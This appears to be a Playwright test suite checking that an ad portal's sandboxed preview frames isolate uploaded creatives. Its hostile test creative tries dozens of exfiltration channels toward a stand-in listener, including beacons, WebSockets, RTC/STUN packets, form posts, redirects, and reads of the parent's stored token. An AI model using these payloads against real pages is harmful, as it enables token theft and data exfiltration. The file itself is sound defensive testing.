import { readFile } from 'node:fs/promises';
import { type APIRequestContext, expect, type Frame, type Page, test } from '@playwright/test';
import { writeZip } from '../packages/optimiser/src/bundle/writeZip.ts';
import { bearer, open, subscribed } from './support/api.ts';
import { listener } from './support/listener.ts';
import { picture } from './support/picture.ts';

const FONT = '../node_modules/@fontsource-variable/inter/files/inter-latin-standard-normal.woff2';
const bytes = (content: string | Uint8Array) =>
  typeof content === 'string' ? new TextEncoder().encode(content) : new Uint8Array(content);

/** Uploads a creative and returns where it can be seen. */
async function previewOf(
  request: APIRequestContext,
  token: string,
  files: Record<string, string | Uint8Array>,
): Promise<string> {
  const zip = await writeZip(Object.entries(files).map(([path, data]) => ({ path, data: bytes(data) })));
  const headers = bearer(token);
  const file = { name: 'creative.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) };
  const uploaded = await request.post('/api/creatives', { headers, multipart: { file } });
  expect(uploaded.ok(), await uploaded.text()).toBe(true);
  const { id } = (await uploaded.json()).data;
  const answer = await request.post(`/api/creatives/${id}/preview`, { headers, data: {} });
  expect(answer.ok(), await answer.text()).toBe(true);
  return (await answer.json()).data.url;
}

/** Shows an address in a frame of the portal's own page, as its screens do. */
async function showIn(page: Page, url: string): Promise<Frame> {
  const frame = await page.evaluateHandle((src) => {
    const element = document.createElement('iframe');
    element.setAttribute('sandbox', 'allow-scripts');
    element.src = src;
    document.body.replaceChildren(element);
    return new Promise<HTMLIFrameElement>((resolve) => {
      element.onload = () => resolve(element);
    });
  }, url);
  const content = await frame.contentFrame();
  if (!content) throw new Error('There is no frame.');
  return content;
}

/** The results that the script of a creative leaves behind. */
const resultsOf = async (frame: Frame) => {
  await frame.waitForFunction(() => 'results' in globalThis);
  return frame.evaluate(() => (globalThis as unknown as { results: Record<string, string> }).results);
};

test('a creative shows its pictures, styles, fonts, scripts and data', async ({ page }) => {
  const { token } = await subscribed(page.request, 'Ferns Media');
  const { buffer } = await picture('png');
  const url = await previewOf(page.request, token, {
    'index.html': `<!doctype html><link rel="stylesheet" href="css/ad.css"><img src="img/a%20b.png?v=2">
      <script src="ad.js"></script><script type="module" src="module.js"></script>`,
    'css/ad.css': `@font-face { font-family: Ad; src: url(../ad.woff2) } body { color: rgb(1, 2, 3) }
      body { background: url("../img/a b.png") }`,
    'ad.js': 'globalThis.plain = true;',
    'data/ad.json': '{ "word": "read" }',
    'module.js': `await document.fonts.load('16px Ad');
      globalThis.results = {
        picture: String(document.images[0].naturalWidth), colour: getComputedStyle(document.body).color,
        font: String([...document.fonts].map(({ status }) => status)), script: String(globalThis.plain),
        data: await fetch('data/ad.json').then((answer) => answer.json()).then(({ word }) => word),
        canvas: (() => { const c = document.createElement('canvas'); c.getContext('2d'); return c.toDataURL().slice(0, 14); })(),
      };`,
    'ad.woff2': await readFile(new URL(FONT, import.meta.url)),
    'img/a b.png': buffer,
  });
  await open(page, token, '/privacy');
  expect(await resultsOf(await showIn(page, url))).toEqual({
    ...{ picture: '320', colour: 'rgb(1, 2, 3)', font: 'loaded', script: 'true', data: 'read' },
    canvas: 'data:image/png',
  });
});

/** What a hostile creative tries; each attempt leaves a word. */
const attempts = (evil: string, packets: string) => `<!doctype html><html><body><script>
  const evil = ${JSON.stringify(evil)};
  const refused = (error) => 'refused';
  const results = {};
  const rtc = async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${packets}' }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => { connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve(); });
    return 'called';
  };
  const element = (name, given) => new Promise((resolve) => {
    const made = Object.assign(document.createElement(name), given);
    made.onload = () => resolve('loaded');
    made.onerror = () => resolve('refused');
    document.body.append(made);
    setTimeout(() => resolve('nothing'), 1500);
  });
  const tries = {
    fetch: () => fetch(evil + '/fetch').then(() => 'reached', refused),
    fetchNoCors: () => fetch(evil + '/no-cors', { mode: 'no-cors' }).then(() => 'reached', refused),
    api: () => fetch('/api/user').then(() => 'reached', refused),
    ticket: () => fetch('../other/index.html').then(() => 'reached', refused),
    xhr: () => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve('reached');
      request.onerror = () => resolve('refused');
      request.open('POST', evil + '/xhr');
      request.send('secret');
    }),
    socket: () => new Promise((resolve) => {
      const socket = new WebSocket(evil.replace('http', 'ws') + '/socket');
      socket.onopen = () => resolve('reached');
      socket.onerror = () => resolve('refused');
    }),
    events: () => new Promise((resolve) => {
      const source = new EventSource(evil + '/events');
      source.onopen = () => resolve('reached');
      source.onerror = () => resolve('refused');
    }),
    beacon: () => { navigator.sendBeacon(evil + '/beacon', 'secret'); return 'called'; },
    image: () => element('img', { src: evil + '/image' }),
    style: () => element('link', { rel: 'stylesheet', href: evil + '/style' }),
    script: () => element('script', { src: evil + '/script' }),
    frame: () => { element('iframe', { src: evil + '/frame' }); return 'called'; },
    object: () => element('object', { data: evil + '/object' }),
    video: () => element('video', { src: evil + '/video', autoplay: true, muted: true }),
    prefetch: () => element('link', { rel: 'prefetch', href: evil + '/prefetch' }),
    preload: () => element('link', { rel: 'preload', as: 'image', href: evil + '/preload' }),
    manifest: () => { element('link', { rel: 'manifest', href: evil + '/manifest' }); return 'called'; },
    css: () => {
      document.body.style.backgroundImage = 'url(' + evil + '/css)';
      return 'called';
    },
    font: () => new FontFace('Evil', 'url(' + evil + '/font)').load().then(() => 'reached', refused),
    module: () => import(evil + '/module').then(() => 'reached', refused),
    form: () => {
      const form = document.createElement('form');
      form.action = evil + '/form';
      document.body.append(form);
      form.submit();
      return 'called';
    },
    ping: () => {
      const link = Object.assign(document.createElement('a'), { href: '#x', ping: evil + '/ping' });
      document.body.append(link);
      link.click();
      return 'called';
    },
    popup: () => (window.open(evil + '/popup') ? 'reached' : 'refused'),
    topGo: () => { top.location = evil + '/top'; return 'called'; },
    topRead: () => String(top.location.href),
    parentRead: () => parent.document.title,
    parentToken: () => parent.localStorage.getItem('token'),
    storage: () => localStorage.getItem('token') ?? 'read',
    session: () => sessionStorage.length + ' read',
    cookie: () => { document.cookie = 'a=b'; return document.cookie; },
    database: () => new Promise((resolve, reject) => {
      const request = indexedDB.open('x');
      request.onsuccess = () => resolve('reached');
      request.onerror = () => reject();
    }),
    caches: () => caches.open('x').then(() => 'reached', refused),
    serviceWorker: () => navigator.serviceWorker.register('sw.js').then(() => 'reached', refused),
    worker: () => new Promise((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = () => resolve('reached');
      worker.onerror = () => resolve('refused');
    }),
    rtc,
    rtcOfBlank: () => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      new frame.contentWindow.RTCPeerConnection();
      return 'reached';
    },
    origin: () => self.origin,
  };
  (async () => {
    for (const [name, attempt] of Object.entries(tries)) {
      try { results[name] = await attempt(); } catch { results[name] = 'refused'; }
    }
    globalThis.results = results;
  })();
</script></body></html>`;

const refusedAll = [
  ...['fetch', 'fetchNoCors', 'api', 'ticket', 'xhr', 'socket', 'events', 'font', 'module', 'popup'],
  ...['topGo', 'topRead', 'parentRead', 'parentToken', 'storage', 'session', 'cookie', 'database'],
  ...['caches', 'serviceWorker', 'worker', 'rtc', 'rtcOfBlank'],
];

test('a hostile creative reaches nothing, in a frame of the portal and in a tab of its own', async ({
  page,
  context,
}) => {
  await using other = await listener();
  const { token } = await subscribed(page.request, 'Moss Media');
  const url = await previewOf(page.request, token, {
    'index.html': attempts(other.origin, other.packets),
    'sw.js': 'self.addEventListener("fetch", () => {});',
  });
  await open(page, token, '/privacy');
  const shown = await resultsOf(await showIn(page, url));
  expect(shown.origin).toBe('null');
  expect(Object.fromEntries(refusedAll.map((name) => [name, shown[name]]))).toEqual(
    Object.fromEntries(refusedAll.map((name) => [name, 'refused'])),
  );
  await expect(page).toHaveURL(/\/privacy$/);
  expect(context.pages()).toHaveLength(1);

  const tab = await context.newPage();
  await tab.goto(url);
  await expect.poll(() => tab.frames().length).toBeGreaterThan(1);
  const alone = await resultsOf(tab.frames()[1] as Frame);
  for (const name of refusedAll) expect({ name, word: alone[name] }).toEqual({ name, word: 'refused' });
  await expect(tab).toHaveURL(url);

  // The listener hears what is allowed to reach it, and nothing else did.
  await page.request.get(`${other.origin}/control`);
  expect(other.heard).toEqual(['GET /control']);
});

/** Sends packets from a document that holds another one, and from a picture that is opened as a document. */
const nested = (packets: string) => {
  const script = `const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${packets}' }] });
    connection.createDataChannel('x');
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && parent.postMessage('sent', '*');`;
  return {
    'index.html': `<!doctype html><script>onmessage = ({ data }) => { globalThis.results = { word: data }; };
      onload = () => setTimeout(() => { globalThis.results ??= { word: 'refused' }; }, 3000);</script>
      <iframe srcdoc="<script>${script.replaceAll('"', '&quot;')}</script>"></iframe>`,
    'picture.html': `<!doctype html><script>location.href = 'picture.svg';</script>`,
    'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script></svg>`,
  };
};

test('a nested document sends no packets, though the browser may end the tab for trying', async ({
  page,
  context,
}) => {
  await using other = await listener();
  const { token } = await subscribed(page.request, 'Sedge Media');
  const url = await previewOf(page.request, token, nested(other.packets));
  await open(page, token, '/privacy');
  const ended = page.waitForEvent('crash').then(() => 'ended');
  const tried = showIn(page, url).then(async (frame) => (await resultsOf(frame)).word);
  expect(['ended', 'refused']).toContain(await Promise.race([ended, tried.catch(() => ended)]));
  ended.catch(() => undefined);

  const another = await context.newPage();
  await open(another, token, '/privacy');
  const frame = await showIn(another, url.replace('index.html', 'picture.html'));
  await expect.poll(() => frame.url()).toMatch(/picture\.svg$/);
  await page.request.get(`${other.origin}/control`);
  expect(other.heard).toEqual(['GET /control']);
});

for (const [way, script] of [
  ['by a script', (evil: string) => `<script>location.href = '${evil}/self?' + location.href</script>`],
  ['by a refresh', (evil: string) => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`],
  ['to a page of the portal', () => `<script>location.href = '/login'</script>`],
] as const)
  test(`a creative cannot go elsewhere ${way}`, async ({ page, context }) => {
    await using other = await listener();
    const { token } = await subscribed(page.request, 'Reed Media');
    const url = await previewOf(page.request, token, {
      'index.html': `<!doctype html><body>here${script(other.origin)}</body>`,
    });
    await open(page, token, '/privacy');
    const told = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
    await showIn(page, url);
    await told;
    await expect(page).toHaveURL(/\/privacy$/);

    const tab = await context.newPage();
    const toldAlone = tab.waitForEvent('console', (message) => message.text().includes('frame-src'));
    await tab.goto(url);
    await toldAlone;
    await expect(tab).toHaveURL(url);
    await page.request.get(`${other.origin}/control`);
    expect(other.heard).toEqual(['GET /control']);
  });
